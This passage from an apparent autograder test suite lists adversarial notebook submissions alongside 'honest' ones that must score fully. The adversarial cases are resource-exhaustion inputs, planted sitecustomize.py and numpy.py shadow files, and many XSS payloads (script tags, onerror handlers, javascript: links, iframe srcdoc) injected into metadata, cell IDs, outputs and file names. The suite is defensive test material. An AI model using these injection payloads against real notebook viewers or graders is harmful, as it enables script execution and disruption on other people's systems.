    Attack("sources_of_lists", "harm", change=_sources([["x"], None])),
    Attack("sources_of_zeros", "harm", change=_sources("\x00" * 1000)),
    Attack("large_metadata", "resource", change=_set(metadata={"x": "y" * 15_000_000})),
    Attack(
        "large_number",
        "harm",
        change=lambda nb: json.dumps(nb).encode().replace(b'"nbformat": 4', b'"nbformat": ' + b"9" * 10_000),
    ),
    Attack("source_of_a_megabyte", "resource", {"double": "x = '" + "y" * 1_000_000 + "'"}),
    Attack(
        "more_files",
        "harm",
        files=lambda p: (
            [
                (p / n).write_text("raise SystemExit")
                for n in ("sitecustomize.py", "numpy.py", "gradebook.db", "timestamp.txt")
            ]
            and None
        ),
    ),
    Attack("old_clock", "harm", files=lambda p: (p / "timestamp.txt").write_text("x" * 1_000_000) and None),
]

# Scripts ------------------------------------------------------------------------------------------------------

ACT = "document.title='hostile';window.hostile=1"
TAGS = (
    f"<script>{ACT}</script>",
    f'<img src=x onerror="{ACT}">',
    f'<svg onload="{ACT}"><script>{ACT}</script></svg>',
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f'<details open ontoggle="{ACT}">x</details>',
    f"</pre></div></script><script>{ACT}</script>",
    f'<style>*{{background:url("javascript:{ACT}")}}</style><body onload="{ACT}">',
    f'<a href="javascript:{ACT}">press</a><math href="javascript:{ACT}">x</math>',
    f"<!--><script>{ACT}</script>-->",
)
MARKDOWN = "\n\n".join(
    (
        *TAGS,
        f'[press](javascript:{ACT}) ![x](x"onerror="{ACT}) <javascript:{ACT}>',
        f"[press][1]\n\n[1]: javascript:{ACT}",
        f"$\\href{{javascript:{ACT}}}{{press}}$ $\\unicode{{x}}$ $\\require{{html}}\\html{{<b>}}$",
        f"[press](java&#115;cript:{ACT}) ![x](attachment:x.svg)",
        f"```\n</code></pre><script>{ACT}</script>\n```",
    )
)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{ACT}\"><script>{ACT}</script></svg>"
SHOWN = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
act = {ACT!r}
for tag in {TAGS!r}:
    display(HTML(tag), Markdown(tag))
    print(tag)
display(Javascript(act), Latex('$\\\\href{{javascript:' + act + '}}{{x}}$'), SVG({SVG!r}))
display({{'text/html': {TAGS[0]!r}, 'application/javascript': act, 'text/plain': {TAGS[0]!r}, 'image/svg+xml': {SVG!r}}}, raw=True)
"""
RAISED = f"""
class E(Exception): pass
E.__name__ = E.__qualname__ = {TAGS[0]!r}
raise E({TAGS[1]!r})
"""


def _stored(nb: dict[str, Any]) -> None:
    """Scripts in every place that a notebook's file has."""
    nb["metadata"] |= {
        "title": TAGS[0],
        "authors": [{"name": TAGS[0]}],
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {TAGS[0]: TAGS[0]}}},
    }
    nb["metadata"]["language_info"] = {"name": TAGS[0], "pygments_lexer": TAGS[0]}
    find(nb, "essay")["attachments"] = {"x.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}}
    for k, cell in enumerate(nb["cells"]):
        cell["id"] = f'{k}"><script>{ACT}</script>'
        cell["metadata"]["tags"] = [TAGS[0]]
        if cell["cell_type"] == "code":
            data = {"text/html": TAGS[0], "image/svg+xml": SVG, "application/javascript": ACT}
            cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]


SCRIPTS = [
    Attack("script_markdown", "script", {"essay": MARKDOWN}),
    Attack(
        "script_cells",
        "script",
        change=lambda nb: nb["cells"].insert(
            0, {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN}
        ),
    ),
    Attack(
        "script_raw",
        "script",
        change=lambda nb: nb["cells"].insert(
            0, {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": TAGS[0]}
        ),
    ),
    Attack("script_outputs", "script", extra=(SHOWN,)),
    Attack("script_error", "script", extra=(RAISED,)),
    Attack(
        "script_source",
        "script",
        {"double": f"'''\n{TAGS[5]}\n'''\ndef double(x):\n    raise ValueError({TAGS[0]!r})"},
    ),
    Attack(
        "script_name",
        "script",
        {"double": f"def double(x): return x\ndouble.__name__ = {TAGS[0]!r}\ndouble.__doc__ = {TAGS[1]!r}"},
    ),
    Attack(
        "script_file",
        "script",
        change=_stored,
        files=lambda p: (
            [(p / n).write_text(TAGS[0]) for n in ("<img src=x onerror=alert(1)>.txt", "x.html")] and None
        ),
    ),
]

# Honest people ------------------------------------------------------------------------------------------------


def honest(name: str, cells: dict[str, str] | None = None, **options: Any) -> Attack:
    """A right submission; it must get all points."""
    return Attack(f"honest_{name}", "honest", cells or {}, points=AUTOMATIC, **options)


def _stripped(nb: dict[str, Any]) -> None:
    for cell in nb["cells"]:
        cell["metadata"] = {}
        cell.pop("id", None)
    nb["nbformat_minor"] = 4


def _colab(nb: dict[str, Any]) -> None:
    for k, cell in enumerate(nb["cells"]):
        cell["metadata"] |= {"id": f"aB3{k}", "colab": {"base_uri": "x"}}
        cell.pop("id", None)
    nb["metadata"] |= {"colab": {"provenance": []}, "accelerator": "GPU"}
    nb["nbformat_minor"] = 0


def _vscode(nb: dict[str, Any]) -> None:
    for cell in nb["cells"]:
        cell.pop("id", None)
        cell["metadata"]["vscode"] = {"languageId": "python"}
        cell["source"] = (
            cell["source"].splitlines(keepends=True) if isinstance(cell["source"], str) else cell["source"]
        )
    nb["nbformat_minor"] = 2


def _moved(nb: dict[str, Any]) -> None:
    cells = nb["cells"]
    nb["cells"] = [cells[0], *cells[6:8], *cells[3:6], *cells[1:3]]


def _blank_copy(nb: dict[str, Any]) -> None:
    copy = deepcopy(find(nb, "double"))
    copy["source"] = 'def double(x):\n    """Twice x."""\n    ...  # your code here'
    nb["cells"].append(copy)


def _append(*sources: str) -> Change:
    return lambda nb: nb["cells"].extend(code(text) for text in sources)


HELPED = {"double": "def double(x):\n    return helper(x, x)"}
HONEST = [
    honest("plain"),
    honest("warning", extra=("import warnings\nwarnings.warn('`loss_type=None` was set in the config')",)),
    honest(
        "warning_in_a_call",
        {
            "double": "import warnings, sys\ndef double(x):\n    warnings.warn('old')\n    print('x', file=sys.stderr)\n    return x + x"
        },
    ),
    honest("logging", extra=("import logging\nlogging.basicConfig()\nlogging.warning('careful')",)),
    honest(
        "progress",
        {"total": "from tqdm.auto import tqdm\ndef total(values):\n    return float(sum(tqdm(values)))"},
    ),
    honest(
        "plot",
        extra=(
            "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
            "%matplotlib inline\nplt.bar([1], [2])",
        ),
    ),
    honest("slow", extra=("import time\ntime.sleep(3)",)),
    honest("helper", HELPED, extra=("def helper(a, b):\n    return a + b",)),
    honest(
        "helper_after_use",
        HELPED,
        change=lambda nb: nb["cells"].insert(2, code("def helper(a, b):\n    return a + b")),
    ),
    honest(
        "crlf",
        change=lambda nb: [c.update(source=c["source"].replace("\n", "\r\n")) for c in nb["cells"]] and None,
    ),
    honest("colab", change=_colab),
    honest("vscode", change=_vscode),
    honest("stripped", change=_stripped),
    honest("reordered", change=_moved),
    honest("blank_copy_last", change=_blank_copy),
    honest("test_deleted", change=lambda nb: nb["cells"].__delitem__(2)),
    honest("test_edited", change=_tests(lambda c: c.update(source="print('mine')"))),
    honest(
        "numpy_numbers",
        {
            "total": "import numpy as np\ndef total(values):\n    return float(np.sum(values))",
            "describe": "def describe(values):\n    return {'mean': np.float64(np.mean(values)), 'size': np.int64(len(values))}",
        },
    ),
    honest("magics", extra=("%matplotlib inline", "!echo hello", "%timeit -n1 -r1 1 + 1", "%%time\nx = 1")),
    honest("install", extra=("%pip install -q nothing-of-this-name", "!pip install -q nothing-of-this-name")),
    honest("error_elsewhere", change=_append("1 / 0", "undefined_name")),
    honest("unicode", {"double": "def double(größe):\n    '''数 × 2'''\n    return 2 * größe"}),
    honest("byte_order_mark", change=lambda nb: b"\xef\xbb\xbf" + json.dumps(nb).encode()),
    honest("utf_16", change=lambda nb: json.dumps(nb, ensure_ascii=False).encode("utf-16")),
    honest("tabs", {"double": "def double(x):\n\treturn 2 * x"}),
    honest("prints", {"double": "def double(x):\n    print('double of', x)\n    return 2 * x"}),
    honest(
        "lambdas",
        {
            "double": "double = lambda x: 2 * x",
            "total": "from functools import partial, reduce\ntotal = partial(reduce, lambda a, b: a + b, initial=0.0) if False else lambda v: float(sum(v))",
        },
    ),
    honest(
        "callable_object",
        {"double": "class Double:\n    def __call__(self, x):\n        return x + x\ndouble = Double()"},
    ),
    honest(
        "torch",
        {
            "total": "import torch\ndef total(values):\n    return float(torch.tensor(values, dtype=torch.float64).sum())"
        },
    ),
    honest(
        "ordered_dict",
        {
            "describe": "from collections import OrderedDict\ndef describe(v):\n    return OrderedDict(mean=sum(v) / len(v), size=len(v))"
        },
    ),
    honest("essay", {"essay": "A *real* answer with $x^2 < 3$ and `a < b`."}),
    honest("empty_cells", change=_append("", "   ", "\n")),
    honest("old_outputs", change=_tests(lambda c: c.update(outputs=_result("0"), execution_count=7))),
    honest("split_answer", {"double": "def twice(x):\n    return 2 * x\ndouble = twice"}),
    honest(
        "annotated_and_async",
        {"double": "from __future__ import annotations\ndef double(x: float) -> float:\n    return x + x"},
        extra=("import asyncio\nawait asyncio.sleep(0)",),
    ),
]

ATTACKS = [*VALUES, *ENGINE, *CLAIMS, *MACHINE, *FILES, *SCRIPTS]
